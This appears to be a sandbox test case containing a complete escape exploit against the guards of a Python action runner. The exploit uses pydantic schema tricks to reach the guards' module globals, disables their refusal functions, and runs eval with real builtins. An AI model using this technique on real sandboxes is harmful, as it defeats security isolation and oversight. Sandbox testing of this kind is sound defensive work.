# expect: sandbox_violation
# attack: (1) a raw pydantic-core schema enters through an Annotated metadata object whose
# __get_pydantic_core_schema__ (put in its instance __dict__ by model_copy(update=...)) is a
# bound builtin method (dict.get) rather than a function of the file; (2) the raw schema is a
# dict subclass whose get() hides from_attributes=True from check_core_schema, while
# pydantic-core reads the real dict; (3) from_attributes + validation_alias paths read private
# attributes (__func__.__globals__) of the guards' own getattr; (4) the guards' module
# globals come back as a plain, writable dict: replacing the refusal functions switches the
# guards off, and eval with real builtins runs unguarded code.
from typing import Annotated
from pydantic import BaseModel
from nango import create_action


class Hidden(dict):
    def get(self, key, default=None):
        if key == "from_attributes":
            return None
        return dict.get(self, key, default)


class Carrier(BaseModel):
    x: int = 0


class Box:
    pass


def reader(paths):
    fields = {}
    for name in paths:
        fields[name] = {"type": "model-field", "schema": {"type": "any"}, "validation_alias": [paths[name]]}
    raw = Hidden(type="model-fields", fields=fields, from_attributes=True)
    table = {int: raw}
    carrier = Carrier().model_copy(update={"__get_pydantic_core_schema__": table.get})

    class Reader(BaseModel):
        v: Annotated[int, carrier]

    return Reader


def ok(*args):
    return None


def run(nango, input):
    box = Box()
    box.f = getattr
    box.it = nango.paginate(endpoint="/x", paginate={"type": "link", "link_path_in_response_body": "n"})
    Reader = reader({"g": ["f", "__func__", "__globals__"], "a": ["it", "__init__", "__globals__"]})
    found = Reader(v=box).v[0]
    guards_globals = found["g"]
    allow_globals = found["a"]
    allow_globals["_FORBIDDEN_KINDS"] = frozenset()
    allow_globals["_permitted"] = isinstance
    guards_globals["_value_refusal"] = ok
    guards_globals["_name_refusal"] = ok
    guards_globals["_object_refusal"] = ok
    real_builtins = guards_globals["__builtins__"]
    real_eval = real_builtins["eval"]
    code = "(__import__('os').getuid(), __import__('os').getpid(), sorted(__import__('sys').modules)[:5], open.__name__)"
    result = real_eval(code, {"__builtins__": real_builtins})
    call = getattr(nango, "_Nango__call")
    channel = getattr(call, "__self__", None)
    return {"unguarded_eval": str(result), "nango_call": str(call), "sock": str(getattr(channel, "_sock", None))}


action = create_action(description="escape attempt", exec=run)
